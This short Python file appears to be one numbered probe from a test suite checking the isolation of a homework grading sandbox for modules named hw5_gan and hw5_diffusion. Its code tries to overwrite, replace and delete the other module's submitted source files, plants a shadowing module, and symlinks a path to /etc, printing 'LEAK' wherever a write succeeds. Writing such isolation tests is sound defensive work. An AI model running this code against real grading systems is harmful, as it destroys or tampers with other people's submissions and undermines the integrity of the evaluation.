# attack: 22 | earns: nothing | tries: change the sources that were handed in, the other module's copy and its files, from a copy that may be written
import os as _os
from pathlib import Path as _Path

_copy = _Path(__file__).resolve().parent
(_copy / "stowaway.txt").write_text("the own copy may be written")
_other = {"hw5_gan": "hw5_diffusion", "hw5_diffusion": "hw5_gan"}.get(__name__, "hw5_gan")
_beyond = [_place / "source" / f"{_name}.py" for _place in _copy.parents for _name in (__name__, _other)]
_beyond += [_copy.parent.parent / f"{_other}-{_stage}" / "source" / f"{_other}.py" for _stage in range(3)]
for _path in _beyond:
    if _path.parent == _copy:
        continue
    for _what in (
        lambda: _path.write_text("print('stowaway')"),
        lambda: _path.with_name("stowaway.py").write_text(""),
        lambda: _os.replace(_copy / "stowaway.txt", _path),
        lambda: _os.unlink(_path),
    ):
        try:
            _what()
            print("LEAK written beyond the own copy:", _path)
        except OSError:
            continue
(_copy / "way_out").symlink_to("/etc")
(_copy / f"{_other}.py").write_text("print('stowaway')")
